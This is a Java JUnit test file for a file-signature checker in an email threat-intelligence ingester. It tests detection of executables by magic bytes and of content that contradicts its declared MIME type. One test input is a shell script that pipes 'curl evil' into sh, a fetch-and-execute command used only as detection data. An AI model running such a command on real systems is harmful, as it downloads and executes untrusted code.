package io.emailintel.ingester.stix;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class FileMagicTest {

    private static byte[] bytes(int... b) {
        byte[] out = new byte[b.length];
        for (int i = 0; i < b.length; i++) {
            out[i] = (byte) b[i];
        }
        return out;
    }

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.US_ASCII);
    }

    @Test
    void executablesAreRecognisedByTheirMagicBytes() {
        assertThat(FileMagic.executable(ascii("MZ\u0090\u0000 This program cannot be run in DOS mode"))).get()
                .asString().contains("Windows");
        assertThat(FileMagic.executable(bytes(0x7F, 'E', 'L', 'F', 2, 1, 1))).get().asString().contains("ELF");
        assertThat(FileMagic.executable(bytes(0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1))).get().asString().contains("Mach-O");
        assertThat(FileMagic.executable(bytes(0xFE, 0xED, 0xFA, 0xCE))).get().asString().contains("Mach-O");
        assertThat(FileMagic.executable(bytes(0xCA, 0xFE, 0xBA, 0xBE))).get().asString().contains("Mach-O");
        assertThat(FileMagic.executable(bytes(0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0))).get().asString().contains(".lnk");
        assertThat(FileMagic.executable(ascii("#!/bin/sh\ncurl evil | sh\n"))).get().asString().contains("script");
    }

    @Test
    void documentsAndTextAreNotExecutables() {
        assertThat(FileMagic.executable(ascii("%PDF-1.7\n"))).isEmpty();
        assertThat(FileMagic.executable(ascii("ip,port\n1.2.3.4,80\n"))).isEmpty();
        assertThat(FileMagic.executable(ascii("M"))).isEmpty();
        assertThat(FileMagic.executable(new byte[0])).isEmpty();
    }

    @Test
    void aPdfMustCarryItsHeaderNearTheStart() {
        assertThat(FileMagic.contradicts("application/pdf", ascii("%PDF-1.4\n%%EOF"))).isFalse();
        assertThat(FileMagic.contradicts("APPLICATION/PDF", ascii("\r\n  junk %PDF-1.4\n"))).isFalse();
        assertThat(FileMagic.contradicts("application/pdf", ascii("<html>not a pdf</html>"))).isTrue();
        byte[] late = new byte[FileMagic.PDF_HEADER_WINDOW + 10];
        System.arraycopy(ascii("%PDF-"), 0, late, FileMagic.PDF_HEADER_WINDOW, 5);
        assertThat(FileMagic.contradicts("application/pdf", late)).isTrue();
    }

    @Test
    void imagesAndZipsMustCarryTheirSignature() {
        assertThat(FileMagic.contradicts("image/png", bytes(0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0))).isFalse();
        assertThat(FileMagic.contradicts("image/png", ascii("GIF89a"))).isTrue();
        assertThat(FileMagic.contradicts("image/jpeg", bytes(0xFF, 0xD8, 0xFF, 0xE0))).isFalse();
        assertThat(FileMagic.contradicts("image/gif", ascii("GIF89a"))).isFalse();
        assertThat(FileMagic.contradicts("application/zip", bytes('P', 'K', 3, 4))).isFalse();
        assertThat(FileMagic.contradicts(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ascii("MZ"))).isTrue();
    }

    @Test
    void typesWithoutASignatureAreNeverContradicted() {
        assertThat(FileMagic.contradicts("text/csv", bytes(0, 1, 2))).isFalse();
        assertThat(FileMagic.contradicts("text/plain", ascii("MZ"))).isFalse();
        assertThat(FileMagic.contradicts("", ascii("x"))).isFalse();
        assertThat(FileMagic.contradicts(null, ascii("x"))).isFalse();
    }
}
